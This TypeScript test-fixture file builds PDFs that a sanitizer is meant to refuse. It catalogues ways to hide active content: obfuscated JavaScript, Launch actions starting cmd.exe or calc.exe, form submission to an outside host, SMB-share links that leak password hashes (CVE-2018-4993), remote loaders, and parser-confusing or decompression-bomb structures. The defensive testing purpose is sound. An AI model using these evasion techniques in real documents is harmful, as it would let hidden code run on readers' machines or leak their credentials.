import { encryptedPdf, encryptedPdfs } from './encrypted-pdfs.ts';
import { stream, textPdf } from './made-pdfs.ts';
import {
  address,
  annotated,
  deflated,
  type Files,
  launch,
  opening,
  packed,
  packedAt,
  predicted,
  pressed,
  replaced,
  revised,
  script,
  share,
  stranger,
  withObjects,
  withPage,
  words,
} from './pdf-parts.ts';

const scripts: Files = {
  'a script on opening': opening(script),
  'a script among the names': textPdf({
    pages: words,
    catalogue: `/Names << /JavaScript << /Names [(a) ${script}] >> >>`,
  }),
  'a script on a page': withPage(`/AA << /O ${script} >>`),
  'a script of a field': annotated(`/Subtype /Widget /FT /Tx /T (a) /AA << /K ${script} >>`),
  'a script behind a press': pressed(script),
  'a script after a harmless action': pressed(
    `<< /S /GoTo /D [5 0 R /Fit] /Next [<< /S /Named /N /Print >> << /S /GoTo /Next 5 0 R >>] >>`,
    script,
  ),
  'a script of a rendition': withPage('/AA << /O << /S /Rendition /JS (app.alert\\(1\\)) >> >>'),
  'a script of a 3D model': withObjects(
    stream('U3D', '/Type /3D /OnInstantiate 5 0 R'),
    stream('a()'),
  ),
  'a script by its names in numbers': opening('<< /#53 /J#61va#53cript /#4A#53 (a\\(\\)) >>'),
  'a script whose kind lies elsewhere': opening('<< /S 4 0 R /JS (a) >>', '/JavaScript'),
  'a script whose text lies elsewhere': opening('<< /S /JavaScript /JS 4 0 R >>', '5 0 R', '(a)'),
  'a script in a stream': opening('<< /S /JavaScript /JS 4 0 R >>', stream('app.alert(1)')),
  'a script in a packed stream': opening(
    '<< /S /JavaScript /JS 4 0 R >>',
    stream(deflated('app.alert(1)'), '/Filter /FlateDecode'),
  ),
  'a script in a stream that cannot be unpacked': opening(
    '<< /S /JavaScript /JS 4 0 R >>',
    stream('616c657274>', '/Filter /ASCIIHexDecode'),
  ),
  'a script behind a comment': opening('<< /S% (\n/JavaScript /JS% <<\n(a) >>'),
  'a script behind an unbalanced string': opening(`<< /X (\\() /Y (()) /Z <28> /N ${script} >>`),
  'a script whose empty text is written twice': opening('<< /S /JavaScript /JS () /JS (a) >>'),
  'a script within a stream, where a table may point': withObjects(
    stream(`9 0 obj ${script} endobj`),
  ),
  'a script within a string, where a table may point': withObjects(
    '<< /Title (9 0 obj << /S /JavaScript /JS <61> >> endobj) >>',
  ),
  'a script in an object whose number is behind a comment': replaced(
    opening('4 0 R', script),
    '4 0 obj',
    '4 % 0 obj\n0 %\nobj',
  ),
  'a script in a catalogue within the trailer': textPdf({
    pages: words,
    trailer: `/Root << /Type /Catalog /OpenAction ${script} >>`,
  }),
  'a script that a later revision takes away': revised(opening('4 0 R', script), [4, 'null']),
  'a script that a later revision brings': revised(opening('4 0 R', 'null'), [4, script]),
  'a script that nothing refers to': withObjects(script),
  'a script in an array within arrays': withObjects(`${'['.repeat(90)}${script}${']'.repeat(90)}`),
  'a packed script': withObjects(packed([script], '/Type /ObjStm')),
  'a packed script whose stream has no type': withObjects(packed([script])),
  'a packed script whose stream has another type': withObjects(packed([script], '/Type /XObject')),
  'a packed script whose stream has entries in numbers': withObjects(
    packed([script]).replace('/First', '/#46irst').replace('/N ', '/#4E '),
  ),
  'a packed script whose stream has an array of filters': withObjects(
    packed([script]).replace('/FlateDecode', '[/FlateDecode] /DecodeParms [null]'),
  ),
  'a packed script whose stream is not packed': withObjects(
    stream(`9 0 ${script}`, '/N 1 /First 4'),
  ),
  'a packed script behind a predictor': withObjects(
    stream(
      predicted(`9 0 ${script}`),
      '/N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>',
    ),
  ),
  'a packed script in streams that extend one another': withObjects(
    packed(['null'], '/Extends 5 0 R'),
    packed([script], '/Extends 4 0 R'),
  ),
  'a packed script within a string of another object': withObjects(
    packedAt('9 0 10 3 ', `(a ${script})`),
  ),
  'a packed script before another object': withObjects(packedAt('9 5 10 0 ', `null ${script}`)),
  'a packed script whose stream lies about its length': withObjects(
    packed([script]).replace(/\/Length \d+/, '/Length 3'),
  ),
  'a packed script with a false end in it': withObjects(
    stream(`9 0 (endstream) ${script}`.replace('9 0 ', '9 12 '), '/N 1 /First 5'),
  ),
  'a packed script behind a false beginning': withObjects(
    packed([script], '/X (>> stream\nendstream)'),
  ),
  'a packed script with a wrong checksum': withObjects(
    stream(`${deflated(`9 0 ${script}`).slice(0, -4)}abcd`, '/N 1 /First 4 /Filter /FlateDecode'),
  ),
  ...encryptedPdfs('script', 'a script under an encryption'),
  ...encryptedPdfs('packed-script', 'a packed script under an encryption'),
};

const starters: Files = {
  'a program on opening': opening('<< /S /Launch /Win << /F (cmd.exe) >> >>'),
  'a program behind a press': pressed(launch),
  'a program when the pointer comes': annotated(`/Subtype /Link /AA << /E ${launch} >>`),
  'a program behind other actions': opening(`<< /S /GoTo /D [5 0 R /Fit] /Next [${launch}] >>`),
  'a program whose kind lies elsewhere': opening(
    '<< /S 4 0 R /F (calc.exe) >>',
    '5 0 R',
    '/Launch',
  ),
  'a packed program whose stream has no type': withObjects(packed(['null', launch])),
  'a program that claims to be an element of the structure': withObjects(
    '<< /Type /StructElem /S /Launch /P 2 0 R /F (calc.exe) >>',
  ),
};

const actions: Files = {
  'an address on opening': opening(address),
  'an address with a page': withPage(`/AA << /O ${address} >>`),
  'an address when the pointer comes': annotated(`/Subtype /Link /AA << /E ${address} >>`),
  'an address when a field is left': annotated(
    `/Subtype /Widget /FT /Tx /T (a) /AA << /Bl ${address} >>`,
  ),
  'an address whose events lie elsewhere': withPage(
    '/AA 4 0 R',
    '5 0 R',
    '<< /C 6 0 R >>',
    address,
  ),
  'an address behind a harmless action': opening('<< /S /Trans /Next [4 0 R] >>', address),
  'an address behind actions that repeat themselves': opening(
    '4 0 R',
    '<< /S /GoTo /Next 5 0 R >>',
    `<< /S /GoTo /Next [4 0 R ${address}] >>`,
  ),
  'a packed address': opening('9 0 R', packed([address])),
  'an address whose number cannot be read': replaced(
    opening('4 0 R', address),
    '4 0 obj',
    '4 0%\nobj',
  ),
  'an address that an older revision had': revised(opening('4 0 R', address), [4, 'null']),
  'an address on the way through a presentation': withPage(
    '/PresSteps 4 0 R',
    `<< /NA ${address} >>`,
  ),
  'another file on opening': opening('<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>'),
  'a thread of another file on opening': opening('<< /S /Thread /F (other.pdf) /D 0 >>'),
  // Windows logs in at the share, and so gives it the reader's name and the hash of the password (CVE-2018-4993).
  'a file on a share, with a page': withPage(
    `/AA << /O << /S /GoToR /D [0 /Fit] /F ${share} >> >>`,
  ),
  'a file on a share, behind a press': pressed(`<< /S /GoToR /D [0 /Fit] /F ${share} >>`),
  'a file on a share by its PDF path': pressed(
    '<< /S /GoToR /D [0 /Fit] /F << /F (/stranger.example/cv.pdf) >> >>',
  ),
  'a file on a share by its address': pressed(
    '<< /S /GoToR /D [0 /Fit] /F << /UF <feff00660069006c0065003a002f002f0061002e0062002f0063> >> >>',
  ),
  'a file within a file': pressed(`<< /S /GoToE /D [0 /Fit] /F ${share} >>`),
  'a form that is sent on opening': opening(`<< /S /SubmitForm /F (${stranger}/form) >>`),
  'a form that is sent by a press': pressed(`<< /S /SubmitForm /F (${stranger}/form) >>`),
  'a form that is filled from a file': opening('<< /S /ImportData /F (a.fdf) >>'),
  'a form of XFA': textPdf({
    pages: words,
    catalogue: '/AcroForm << /Fields [] /XFA 4 0 R >>',
    more: [stream('<xdp/>')],
  }),
};

const loaders: Files = {
  'a picture that is elsewhere': withObjects(
    stream('', `/Subtype /Image /Width 9 /Height 9 /F << /FS /URL /F (${stranger}) >>`),
  ),
  'a text that is elsewhere': withObjects(stream('', `/F ${share}`)),
  'a stream whose place is named elsewhere': withObjects(stream('', '/F 5 0 R'), '(a.txt)'),
  'a page of another file': withObjects(
    stream('', `/Subtype /Form /BBox [0 0 9 9] /Ref << /F (${stranger}/a.pdf) /Page 0 >>`),
  ),
  'a page of another file, named elsewhere': withObjects(
    stream('', '/Subtype /Form /BBox [0 0 9 9] /Ref 9 0 R'),
    packed(['<< /F (a.pdf) /Page 0 >>']),
  ),
};

const media: Files = {
  'a film on opening': opening('<< /S /Movie /T (a) /Operation /Play >>'),
  'a film': annotated('/Subtype /Movie /Movie << /F (a.avi) >>'),
  'a sound on opening': opening('<< /S /Sound /Sound 4 0 R >>', stream('aaa', '/R 8000')),
  'a sound': annotated('/Subtype /Sound /Sound 5 0 R', stream('aaa', '/R 8000')),
  'a rendition': withPage('/AA << /O << /S /Rendition /OP 0 /R << /S /MR >> >> >>'),
  'rich media': annotated('/Subtype /RichMedia /RichMediaContent << /Assets << >> >>'),
  'an order to rich media': opening('<< /S /RichMediaExecute /TA 4 0 R /CMD << /C (play) >> >>'),
};

const cut = '<< /F (calc.exe) /S /Launch';
const hidden = `9 0 ${script}`;
const unreadables: Files = {
  'objects that are packed twice': withObjects(
    packed([script]).replace('/FlateDecode', '[/ASCIIHexDecode /FlateDecode]'),
  ),
  'objects that are packed in another way': withObjects(
    stream(Buffer.from(`${hidden}>`).toString('hex'), '/N 1 /First 4 /Filter /ASCIIHexDecode'),
  ),
  'objects that are not packed as they say': withObjects(
    stream('not deflated', '/N 1 /First 4 /Filter /FlateDecode'),
  ),
  'packed objects whose number lies elsewhere': withObjects(
    packed([script]).replace('/N 1', '/N 5 0 R'),
    '1',
  ),
  'packed objects with two beginnings': withObjects(packed(['null'], '/First 2')),
  'packed objects with words among their numbers': withObjects(
    stream('a 9 0 null', '/N 1 /First 6'),
  ),
  'packed objects with less numbers than objects': withObjects(stream('9 0 null', '/N 2 /First 4')),
  'a packed program that one reader cuts off': withObjects(
    packedAt(`9 0 10 ${cut.length} `, `${cut}X >> null`),
  ),
  'packed objects in a dictionary that is not closed': withObjects(
    stream(hidden, '/X << /N 1 /First 4'),
  ),
  'a program in an array that one reader never ends': withObjects(
    '<< /X [ nan /S /Launch /F (calc.exe) >>',
  ),
  'a script in a dictionary that one reader never ends': withObjects('<< /X << /A >> /JS () >>'),
  'objects that unpack to too much': withObjects(packed([' '.repeat(150 * 1024 * 1024)])),
  'brackets without an end': withObjects('['.repeat(100_000)),
  'an encryption that its last trailer does not name': revised(encryptedPdf('packed-script-r4'), [
    8,
    'null',
  ]),
};

/** PDFs that run or load something or cannot be examined, by the reason. */
export const refusedPdfs = {
  scriptFile: scripts,
  startingFile: starters,
  actionFile: actions,
  loadingFile: loaders,
  mediaFile: media,
  unreadableFile: unreadables,
  lockedFile: {
    ...encryptedPdfs('password', 'a password'),
    'the rights management of another company': textPdf({
      pages: words,
      trailer: '/Encrypt << /Filter /FOPN_fLock /V 1 >>',
    }),
    'an encryption without a key': textPdf({
      pages: words,
      trailer: '/Encrypt << /Filter /Standard /V 2 >>',
    }),
  },
} as const satisfies Readonly<Record<string, Files>>;
